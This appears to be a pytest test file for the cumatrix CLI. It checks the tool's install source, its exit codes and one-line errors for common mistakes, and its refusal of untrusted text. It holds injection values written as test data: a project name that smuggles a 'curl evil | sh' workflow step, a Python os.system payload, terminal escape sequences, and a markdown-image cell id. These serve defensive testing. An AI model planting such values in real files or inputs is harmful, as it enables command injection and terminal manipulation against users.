@@ -1,0 +1,315 @@
+"""A new user's first hour: installed from where cumatrix comes from, every ordinary mistake
+answered with its documented exit code and one line, one default matrix, and no text from
+outside (a project's name, another host's results) written raw.
+
+Every command is the real ``cumatrix`` in a subprocess.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+import tomllib
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).resolve().parents[2]
+Cli = Callable[..., subprocess.CompletedProcess[str]]
+
+SMALL = """\
+version: 1
+runtimes: {cu12.4: {wheel: nvidia-cuda-runtime-cu12==12.4.127}}
+drivers: [host]
+cases:
+  - {name: a, argv: [python3, -c, "pass"]}
+"""
+
+# --------------------------------------------------------------------------- hostile names
+
+HOSTILE = {
+    "newline": "mypkg\n      - name: injected\n        run: curl evil | sh",
+    "python": "import os;from os import system as s;s('touch pwned')",
+    "escape": "pkg\x1b]52;c;cHduZWQ=\x07\x1b[2J",
+}
+
+
+@pytest.mark.parametrize("where", ["pyproject.toml", "setup.cfg"])
+@pytest.mark.parametrize("kind", sorted(HOSTILE))
+def test_init_refuses_a_hostile_name_from_the_projects_files(cli: Cli, tmp_path: Path, kind: str, where: str) -> None:
+    name = HOSTILE[kind]
+    if where == "pyproject.toml":
+        (tmp_path / where).write_text(f"[project]\nname = {json.dumps(name)}\n")
+        assert tomllib.loads((tmp_path / where).read_text())["project"]["name"] == name
+    else:
+        (tmp_path / where).write_text("[metadata]\nname = " + name.replace("\n", "\n  ") + "\n")
+    r = cli("init", cwd=tmp_path)
+    assert r.returncode == 2, r.stdout + r.stderr
+    assert "Traceback" not in r.stderr
+    assert "not a project name" in r.stderr
+    assert where in r.stderr
+    assert "\x1b" not in r.stdout + r.stderr  # shown escaped, never sent to the terminal
+    assert len(r.stderr.strip().splitlines()) == 1
+    assert not (tmp_path / "matrix.yaml").exists()
+    assert not (tmp_path / ".github").exists()
+    assert not (tmp_path / "pwned").exists()
+
+
+def test_init_refuses_a_name_whose_import_is_not_an_identifier(cli: Cli, tmp_path: Path) -> None:
+    (tmp_path / "pyproject.toml").write_text('[project]\nname = "3d-tools"\n')
+    r = cli("init", cwd=tmp_path)
+    assert r.returncode == 2, r.stderr
+    assert "'3d_tools', which is not a Python identifier" in r.stderr
+    assert not (tmp_path / "matrix.yaml").exists()
+    ok = cli("init", "--name", "tools3d", cwd=tmp_path)
+    assert ok.returncode == 0, ok.stderr
+    assert '"import tools3d"' in (tmp_path / "matrix.yaml").read_text()
+
+
+# --------------------------------------------------------------------------- installed from where it comes from
+
+
+def test_the_repository_address_is_the_projects_own() -> None:
+    from cumatrix.front.init import INSTALL_COMMAND, REPOSITORY
+
+    urls = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["urls"]
+    assert urls["Repository"] == REPOSITORY
+    readme = (ROOT / "README.md").read_text()
+    assert INSTALL_COMMAND in readme
+    block = readme.split("## Install", 1)[1].split("```sh", 1)[1].split("```", 1)[0]
+    first = next(ln for ln in block.splitlines() if ln.strip() and not ln.startswith("#"))
+    assert "pip install ." in first
+    assert "pip install cumatrix" not in readme
+
+
+@pytest.mark.network
+def test_the_workflows_install_step_installs_cumatrix_from_a_copy_of_the_repository(cli: Cli, tmp_path: Path) -> None:
+    """The step ``init`` writes, run as a runner would, with the repository's address replaced
+    by a clone of this one: cumatrix is installed into a fresh venv and runs."""
+    import yaml
+
+    from cumatrix.front.init import REPOSITORY
+
+    if shutil.which("git") is None or not (ROOT / ".git").exists():
+        pytest.skip("not a git checkout (or no git): nothing to clone")
+    clone = tmp_path / "cumatrix-clone"
+    subprocess.run(["git", "clone", "-q", "--no-hardlinks", str(ROOT), str(clone)], check=True, timeout=300)
+    project = tmp_path / "proj"
+    project.mkdir()
+    (project / "pyproject.toml").write_text('[project]\nname = "mypkg"\n')
+    assert cli("init", cwd=project).returncode == 0
+    wf = yaml.safe_load((project / ".github" / "workflows" / "cumatrix-nightly.yml").read_text())
+    step = next(s for s in wf["jobs"]["run"]["steps"] if s.get("name") == "install cumatrix")
+    script = str(step["run"])
+    assert f"git+{REPOSITORY}" in script, script
+    script = re.sub(re.escape(f"git+{REPOSITORY}") + r"(@[0-9a-f]{40})?", f"git+file://{clone}", script)
+    github_path = tmp_path / "github_path"
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("VIRTUAL_ENV", "PYTHON"))}
+    env |= {"GITHUB_PATH": str(github_path), "PIP_DISABLE_PIP_VERSION_CHECK": "1"}
+    r = subprocess.run(["bash", "-e", "-c", script], cwd=project, env=env, capture_output=True, text=True,
+                       timeout=900, check=False)
+    assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-3000:]
+    bindir = github_path.read_text().strip()
+    assert Path(bindir) == project / ".venv" / "bin"
+    v = subprocess.run([f"{bindir}/cumatrix", "--version"], capture_output=True, text=True, timeout=60, check=False)
+    assert v.returncode == 0, v.stderr
+    assert v.stdout.startswith("cumatrix "), v.stdout
+
+
+# --------------------------------------------------------------------------- every command's ordinary mistakes
+
+
+def _wheel(path: Path) -> Path:
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr("p-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        z.writestr("p-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: p\nVersion: 1.0\n")
+        z.writestr("p-1.0.dist-info/RECORD", "")
+        z.writestr("p/__init__.py", "")
+    return path
+
+
+#: (argv, exit code): a file where a directory belongs, a directory where a file belongs, bytes
+#: that are not text, a value of thousands of digits, a number past any bound.
+MISTAKES: tuple[tuple[tuple[str, ...], int], ...] = (
+    (("run", "small.yaml", "--out", "FILE", "--no-history"), 3),
+    (("run", "DIR"), 2),
+    (("run", "huge.yaml"), 2),
+    (("run", "binary.yaml"), 2),
+    (("run", "small.yaml", "-n", "9" * 30, "--out", "o"), 2),
+    (("run", "small.yaml", "--timeout", "1e999", "--out", "o"), 2),
+    (("run", "small.yaml", "--history", "DIR", "--out", "o"), 2),
+    (("validate", "huge.yaml"), 2),
+    (("validate", "binary.yaml"), 2),
+    (("validate", "DIR"), 2),
+    (("validate", "bad-driver.yaml"), 2),
+    (("plan", "huge.yaml"), 2),
+    (("merge", "FILE", "--out", "m"), 2),
+    (("merge", "garbage", "--out", "m"), 2),
+    (("report", "FILE"), 2),
+    (("report", "garbage"), 2),
+    (("gate", "p-1.0-py3-none-any.whl", "--static-only", "--out", "FILE"), 3),
+    (("gate", "p-1.0-py3-none-any.whl", "--out", "FILE", "--no-history"), 3),
+    (("gate", "p-1.0-py3-none-any.whl", "--static-only", "--min-driver", "12.44"), 2),
+    (("gate", "FILE"), 2),
+    (("gate", "DIR"), 2),
+    (("repro", "--bug", "vllm-undefined-symbol", "--out", "FILE"), 3),
+    (("repro", "cu12.4/host/a", "--matrix", "huge.yaml"), 2),
+    (("doctor", "DIR"), 2),
+    (("doctor", "binary.yaml"), 2),
+    (("init", "--dir", "FILE"), 2),
+    (("diff", "--history", "DIR"), 2),
+    (("diff", "--history", "not-a-db.sqlite"), 2),
+    (("history", "--history", "not-a-db.sqlite"), 2),
+    (("history", "--limit", "9" * 30, "--history", "h.sqlite"), 2),
+    (("history", "--prune", "--older-than", "nan", "--history", "h.sqlite"), 2),
+    (("fetch", "--dest", "FILE", "small.yaml"), 2),
+    (("fetch", "--dest", "d", "huge.yaml"), 2),
+    (("calibrate", "--sizes", "9" * 30 + "TiB"), 2),
+    (("build", "proc-address", "--headers", "12.44"), 2),
+    (("build", "proc-address", "--wheel-dir", "FILE"), 2),
+    (("submit", "--slurm", "huge.yaml"), 2),
+)
+
+
+@pytest.fixture(scope="module")
+def mistakes_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    d = tmp_path_factory.mktemp("mistakes")
+    (d / "FILE").write_text("")
+    (d / "DIR").mkdir()
+    (d / "small.yaml").write_text(SMALL)
+    (d / "huge.yaml").write_text(SMALL.replace("12.4.127", "1" * 5000))
+    (d / "bad-driver.yaml").write_text(SMALL.replace("[host]", "[host, emulated-12.44]"))
+    (d / "binary.yaml").write_bytes(b"\xff\xfe\x00garbage")
+    (d / "garbage").mkdir()
+    (d / "garbage" / "results.jsonl").write_text("not json\n")
+    (d / "not-a-db.sqlite").write_text("not a database, " * 100)
+    _wheel(d / "p-1.0-py3-none-any.whl")
+    return d
+
+
+@pytest.mark.parametrize(("argv", "code"), MISTAKES, ids=[" ".join(a)[:60] for a, _ in MISTAKES])
+def test_every_commands_ordinary_mistake_is_its_documented_code_and_one_line(
+        cli: Cli, mistakes_dir: Path, argv: tuple[str, ...], code: int, tmp_path: Path) -> None:
+    env = {"CUMATRIX_HISTORY": str(tmp_path / "history.sqlite")}
+    r = cli(*argv, cwd=mistakes_dir, env=env)
+    assert "Traceback" not in r.stderr, r.stderr
+    assert "internal error" not in r.stderr, r.stderr
+    assert r.returncode == code, (r.returncode, r.stderr[-2000:])
+    assert r.returncode != 1
+    last = r.stderr.strip().splitlines()[-1]
+    assert len(last) > 20, r.stderr
+
+
+def test_a_closed_pipe_is_no_traceback(cli_env: Callable[..., dict[str, str]], tmp_path: Path) -> None:
+    # More cell ids than a pipe holds (64 KiB): the command is still writing when its reader goes.
+    cases = "".join(f"  - {{name: case-number-{i}, argv: [true]}}\n" for i in range(4000))
+    (tmp_path / "big.yaml").write_text(SMALL.split("cases:", maxsplit=1)[0] + "cases:\n" + cases)
+    p = subprocess.Popen([sys.executable, "-m", "cumatrix", "validate", "--list", "big.yaml"], stdout=subprocess.PIPE,
+                         stderr=subprocess.PIPE, env=cli_env(), cwd=tmp_path)
+    assert p.stdout is not None
+    assert p.stderr is not None
+    with p.stdout, p.stderr:
+        p.stdout.readline()
+        p.stdout.close()
+        err = p.stderr.read().decode()
+    assert p.wait(timeout=60) == 141, err
+    assert "Traceback" not in err
+
+
+# --------------------------------------------------------------------------- one default
+
+
+def test_validate_and_plan_take_runs_matrix_and_say_so(cli: Cli, tmp_path: Path) -> None:
+    r = cli("validate", cwd=tmp_path)
+    assert r.returncode == 0, r.stderr
+    assert "default matrix bundled with cumatrix" in r.stderr
+    (tmp_path / "matrix.yaml").write_text(SMALL)
+    here = cli("validate", cwd=tmp_path)
+    assert here.returncode == 0, here.stderr
+    assert here.stdout.startswith("matrix.yaml: ok: 2 cells"), here.stdout
+    plan = cli("plan", "--format", "json", cwd=tmp_path)  # ./matrix.yaml, not "the following arguments are required"
+    assert plan.returncode == 2, plan.stderr
+    assert plan.stderr.startswith("matrix.yaml:1:1: plan needs a `hosts:` section"), plan.stderr
+
+
+def test_suggestions_and_min_driver_pick_a_release_that_exists(cli: Cli, tmp_path: Path) -> None:
+    (tmp_path / "m.yaml").write_text(SMALL.replace("[host]", "[host, emulated-12.44]"))
+    r = cli("validate", "m.yaml", cwd=tmp_path)
+    assert r.returncode == 2
+    assert "did you mean '12.4'?" in r.stderr, r.stderr
+    g = cli("gate", _wheel(tmp_path / "p-1.0-py3-none-any.whl"), "--static-only", "--min-driver", "12.44",
+            cwd=tmp_path)
+    assert g.returncode == 2
+    assert "no CUDA 12.44 release (did you mean '12.4'?)" in g.stderr, g.stderr
+
+
+def test_repro_help_and_docs_name_the_same_defaults(cli: Cli) -> None:
+    from cumatrix.core.options import DEFAULT_OUT
+
+    help_text = " ".join(cli("repro", "--help").stdout.split())
+    assert f"reports go here (default: {DEFAULT_OUT}/)" in help_text
+    docs = (ROOT / "docs" / "repro.md").read_text()
+    said = re.findall(r"`--out` \(default `([^`]+)`\)", docs)
+    assert said == [f"{DEFAULT_OUT}/"], said
+    assert "else the default matrix bundled with cumatrix" in help_text
+
+
+# --------------------------------------------------------------------------- other hosts' results
+
+
+def _run_dir(d: Path, cell_id: str, host: str = "h1") -> Path:
+    """A results directory of another host, as its file reaches this one (its seal is not this
+    user's, so nothing vouches for it)."""
+    d.mkdir(parents=True)
+    header = {"type": "run", "schema": 1, "run_id": f"run-{host}", "matrix": "m.yaml", "matrix_sha256": "0" * 64,
+              "started": "2026-01-01T00:00:00Z", "host": host, "cells": [cell_id], "cells_total": 1,
+              "harness_version": "0.1.0", "backend": "local", "host_fingerprint": {}}
+    cell = {"type": "cell", "schema": 1, "id": cell_id, "host": host,
+            "axes": {"runtime": "cu12.4", "driver": "host", "kind": "command", "case": "a"},
+            "expected": {"outcomes": ["ok"], "rule": "command-default", "reason": "exits 0"},
+            "observed": {"outcome": "ok", "path": "n/a", "detail": "", "error_name": None, "exit_status": 0},
+            "status": "pass", "mismatch": None, "fingerprint": {}, "timings": {"wall_s": 0.1},
+            "stderr_tail": "", "stdout_tail": "", "started": "2026-01-01T00:00:00Z", "duration_s": 0.1}
+    end = {"type": "end", "schema": 1, "finished": "2026-01-01T00:00:01Z", "interrupted": False}
+    (d / "results.jsonl").write_text("".join(json.dumps(x) + "\n" for x in (header, cell, end)))
+    return d
+
+
+def test_merge_refuses_a_cell_id_with_a_newline_and_names_the_record(cli: Cli, tmp_path: Path) -> None:
+    evil = "cu12.4/host/a\n```\n![x](https://example.invalid/x.png)"
+    good = _run_dir(tmp_path / "good", "cu12.4/host/a", host="h1")
+    bad = _run_dir(tmp_path / "bad", evil, host="h2")
+    r = cli("merge", good, bad, "--out", tmp_path / "merged", "--no-history", cwd=tmp_path)
+    assert r.returncode == 2, r.stdout + r.stderr
+    assert "Traceback" not in r.stderr
+    assert "bad/results.jsonl" in r.stderr
+    assert "holds a newline or a control character" in r.stderr
+    assert "\n```" not in r.stderr
+    assert "\n![x]" not in r.stderr
+    assert not (tmp_path / "merged" / "summary.md").exists()
+    esc = _run_dir(tmp_path / "esc", "cu12.4/host/a", host="h3\x1b]0;owned\x07")
+    r = cli("merge", good, esc, "--out", tmp_path / "merged", "--no-history", cwd=tmp_path)
+    assert r.returncode == 2, r.stdout + r.stderr
+    assert "\x1b" not in r.stderr
+
+
+def test_diff_prints_a_stored_cell_id_on_one_line() -> None:
+    """A history written before merge checked names may hold such an id: diff shows it escaped."""
+    from cumatrix.results.history import CellKey, StoredRun
+    from cumatrix.results.historydiff import Change, Diff, to_text
+
+    evil = "cu12.4/host/a\n```\n![x](https://example.invalid/x.png)"
+    run = StoredRun(id=1, run_uid="r", kind="run", recorded="t", started=None, finished=None, matrix="m.yaml",
+                    digest="0" * 64, host="", fingerprint={}, harness_version=None, git_commit=None, verdict="PASS",
+                    passed=1, failed=0, skipped=0, not_run=0)
+    d = Diff(a=run, b=run, window=5, changed=(Change(cell=CellKey(name=evil), before=None, after=None),))
+    text = to_text(d)
+    assert "\n```" not in text, text
+    assert "\n![x]" not in text, text
+    assert "cu12.4/host/a\\x0a```\\x0a![x]" in text
